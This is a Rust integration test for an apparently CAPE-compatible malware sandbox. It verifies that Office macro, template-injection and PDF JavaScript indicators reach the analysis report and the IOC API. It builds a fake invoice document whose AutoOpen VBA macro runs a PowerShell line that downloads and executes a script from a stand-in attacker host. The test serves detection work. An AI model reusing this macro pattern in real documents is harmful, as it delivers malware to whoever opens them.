//! Documents through the whole server: a macro document's VBA, template injection and
//! indicators reach the report (`static.office`, `iocs`) and CAPE's `tasks/get/iocs`.

use crate::harness::Server;

#[path = "../../../nestbox-analyzers/tests/docbuild/mod.rs"]
mod docbuild;

#[test]
fn macro_document_report_and_cape_iocs() {
    let s = Server::start("[analysis]\nworkers = 1\n");
    let code = "Sub AutoOpen()\r\n  Shell \"powershell -c iwr http://drop.evil.example.com/x.ps1 | iex\"\r\nEnd Sub\r\n";
    let doc = docbuild::docm(&[("Module1", code)], "http://tpl.evil.example.net/t.dotm");
    let id = s.submit_file("invoice.docm", &doc);
    s.wait_status(id, "reported");
    let rep = s.get(&format!("/tasks/report/{id}")).json();
    let office = &rep["static"]["office"];
    assert_eq!(office["Metadata"]["HasMacros"], "Yes", "{office}");
    assert_eq!(
        office["Macro"]["Code"]["Macro1"][0][1],
        code.trim_end().replace("\r\n", "\n")
    );
    assert_eq!(office["Macro"]["Analysis"]["AutoExec"][0][0], "AutoOpen");
    assert_eq!(
        office["ExternalRelationships"][0]["target"],
        "http://tpl.evil.example.net/t.dotm"
    );
    let domains = rep["iocs"]["domains"].as_array().unwrap();
    for d in ["drop.evil.example.com", "tpl.evil.example.net"] {
        assert!(domains.iter().any(|x| x == d), "{d} in {domains:?}");
    }

    let r = s.get(&format!("/apiv2/tasks/get/iocs/{id}/")).json();
    let data = &r["data"];
    assert_eq!(data["static"]["office"]["macros"], 1);
    assert_eq!(
        data["static"]["office"]["signatures"]["AutoExec"][0][0],
        "AutoOpen"
    );
    assert!(
        data["iocs"]["urls"]
            .as_array()
            .unwrap()
            .iter()
            .any(|u| u == "http://drop.evil.example.com/x.ps1")
    );
}

#[test]
fn pdf_report_has_pdfid_counts() {
    let s = Server::start("[analysis]\nworkers = 1\n");
    let pdf = docbuild::pdf_with_js("app.alert(1)", "http://u.example.org/a");
    let id = s.submit_file("a.pdf", &pdf);
    s.wait_status(id, "reported");
    let rep = s.get(&format!("/tasks/report/{id}")).json();
    assert_eq!(rep["static"]["pdf"]["Keywords"]["/OpenAction"], 1);
    assert_eq!(
        rep["static"]["pdf"]["Annot_URLs"][0],
        "http://u.example.org/a"
    );
    let r = s.get(&format!("/apiv2/tasks/get/iocs/{id}/")).json();
    assert_eq!(r["data"]["static"]["pdf"]["header"], "%PDF-1.7");
    assert_eq!(r["data"]["static"]["pdf"]["pages"], 1);
}
